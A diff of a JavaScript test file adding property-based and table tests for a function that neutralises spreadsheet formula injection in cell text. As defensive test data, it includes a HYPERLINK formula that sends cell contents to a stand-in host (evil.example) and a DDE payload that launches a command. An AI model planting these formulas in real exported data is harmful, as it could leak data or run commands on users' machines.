@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 
-import { boundedText, safeText } from './safe-text.js';
+import { boundedText, safeCell, safeText } from './safe-text.js';
 
 describe('safeText', () => {
   it.each([
@@ -41,6 +41,33 @@ describe('safeText', () => {
   });
 });
 
+describe('safeCell', () => {
+  it.each([
+    ['=HYPERLINK("https://evil.example?"&A1)', '\\u003dHYPERLINK("https://evil.example?"&A1)'],
+    ['+1+cmd|" /C calc"!A0', '\\u002b1+cmd|" /C calc"!A0'],
+    ['-2+3', '\\u002d2+3'],
+    ['@SUM(1)', '\\u0040SUM(1)'],
+    ['\t=1', '\\u0009=1'],
+    ['\r=1', '\\u000d=1'],
+    ['\uff1d1', '\\uff1d1'],
+  ])('shows that %j is no formula', (text, safe) => {
+    expect(safeCell(text)).toBe(safe);
+  });
+
+  it.each(['', 'a=1', 'crm-read', '1-2', 'x@acme.example', '{"a":"=1"}'])('leaves %j as it is', (text) => {
+    expect(safeCell(text)).toBe(text);
+  });
+
+  it('begins with nothing that a spreadsheet would run, and changes a safe text no more', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        expect(safeCell(text)).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
+        expect(safeCell(safeCell(text))).toBe(safeCell(text));
+      }),
+    );
+  });
+});
+
 describe('boundedText', () => {
   it('is well formed, safe and within its limit, whatever comes', () => {
     fc.assert(
@@ -48,15 +75,15 @@ describe('boundedText', () => {
         const bounded = boundedText(text, limit);
         expect(bounded.length).toBeLessThanOrEqual(limit);
         expect(bounded.isWellFormed()).toBe(true);
-        expect(safeText(bounded)).toBe(bounded);
+        expect(safeCell(bounded)).toBe(bounded);
       }),
     );
   });
 
-  it('is safeText for what fits', () => {
+  it('is safeCell for what fits', () => {
     fc.assert(
       fc.property(hostile, (text) => {
-        const safe = safeText(text);
+        const safe = safeCell(text);
         expect(boundedText(text, Math.max(safe.length, 18))).toBe(safe);
       }),
     );
@@ -88,6 +115,12 @@ const hostile = fc.string({
       '😀',
       '\\',
       '"',
+      '=',
+      '+',
+      '-',
+      '@',
+      '\t',
+      '\uff1d',
     ),
   ),
   maxLength: 80,
